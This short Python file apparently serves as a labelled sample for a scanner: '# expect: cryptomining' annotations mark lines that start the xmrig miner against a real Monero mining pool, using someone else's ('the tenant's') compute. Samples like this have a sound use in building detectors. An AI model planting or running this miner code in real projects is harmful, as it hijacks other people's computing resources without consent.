# ruff: noqa
# fmt: off
"""A cryptominer riding on the tenant's compute."""
import subprocess

POOL = "stratum+tcp://pool.supportxmr.com:3333"  # expect: cryptomining
subprocess.Popen(["./xmrig", "-o", POOL, "--donate-level", "1"])  # expect: cryptomining
